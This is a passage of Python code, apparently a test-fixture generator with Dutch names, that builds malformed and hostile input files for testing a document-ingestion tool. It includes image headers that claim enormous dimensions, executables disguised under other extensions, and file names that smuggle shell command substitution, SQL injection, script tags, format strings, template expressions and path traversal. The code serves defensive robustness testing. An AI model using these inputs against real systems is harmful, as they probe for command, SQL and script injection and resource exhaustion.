        ("nan", '{"text": NaN, "date": Infinity}'),
        ("soorten", '{"text": {"a": 1}, "title": [1, 2], "date": {}}'),
        ("namen", '{"_id": "../../x", "text": "De stad", "title": "<script>alert(1)</script>"}'),
        ("stuk", '{"text": "De stad'),
    ):
        yield f"{name}.jsonl", f"{good}\n{line}\n{good}\n".encode()
    yield "bytes.jsonl", good.encode() + b"\n\xff\xfe\xfd\n" + good.encode()


def images() -> Iterator[Made]:
    """Images that say they are larger than any machine."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    for side in (50_000, 2**31 - 1):
        head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
        data = chunk(b"IDAT", zeros(5_000_000))
        yield f"{side}.png", b"\x89PNG\r\n\x1a\n" + head + data + chunk(b"IEND", b"")
    yield "reus.jpg", b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xff\xff\xff\x01\x01\x11\x00\xff\xd9"
    yield "rond.tif", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"
    yield "reus.gif", b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00"
    yield (
        "reus.bmp",
        b"BM" + struct.pack("<IIIIiiHHI", 99, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 32, 0),
    )


def names() -> Iterator[Made]:
    """Good text under names that look like something else."""
    for name in (
        "-rf.txt",
        "--store.txt",
        "-",
        "<script>alert(1)</script>.txt",
        "'; DROP TABLE documents;--.txt",
        "$(touch ontsnapt).txt",
        "`touch ontsnapt`.txt",
        "a\nb.txt",
        "a\tb\x1b[31m.txt",
        "\u202etxt.exe",
        "%s%n%x.txt",
        "..txt",
        "…" * 80 + ".txt",
        "{{ 7*7 }}.txt",
        "http:__127.0.0.1_x.txt",
        "con.txt",
        " spatie .txt ",
        "*?[a].txt",
    ):
        yield name, f"{_TEXT} {name}".encode()


def disguised() -> Iterator[Made]:
    """Content under the name of something else."""
    pdf = _PDF.read_bytes()
    page = b"<!DOCTYPE html><html><body><p>De stad.</p></body></html>"
    kinds: dict[str, bytes] = {
        "pdf": pdf,
        "zip": zip_of({"a.txt": _TEXT.encode()}),
        "html": page,
        "tekst": _TEXT.encode(),
        "programma": b"\x7fELF\x02\x01\x01" + bytes(5000),
        "dos": b"MZ\x90\x00" + bytes(5000),
        "databank": b"SQLite format 3\x00" + bytes(5000),
        "leeg": b"",
    }
    for kind, data in kinds.items():
        for extension in ("pdf", "docx", "html", "eml", "jsonl", "xlsx"):
            if kind != extension:
                yield f"{kind}.{extension}", data
    yield "pdf-en-zip.pdf", pdf + kinds["zip"]
    yield "html-en-pdf.html", page + pdf


def large() -> Iterator[Made]:
    """Fifty million bytes before anything is said."""
    yield "koppen.pdf", b"%" + b"a" * 99 + b"\n" * 1 + b"%PDF-1.7\n" + b"%x\n" * (_LARGE // 3)
    yield "koppen.eml", b"MIME-Version: 1.0\n" + b"X-Kop: aaaaaaaaaaaaaaaaaa\n" * (_LARGE // 26)
    yield "koppen.html", b"<html><head>" + b"<meta name=a>" * (_LARGE // 13) + b"<p>De stad."
    yield "koppen.md", b"---\n" + b"a: b\n" * (_LARGE // 50) + b"---\n# Kop\n"
    yield "koppen.rtf", b"{\\rtf1{\\fonttbl" + b"{\\f0 A;}" * (_LARGE // 80) + b"}De stad}"
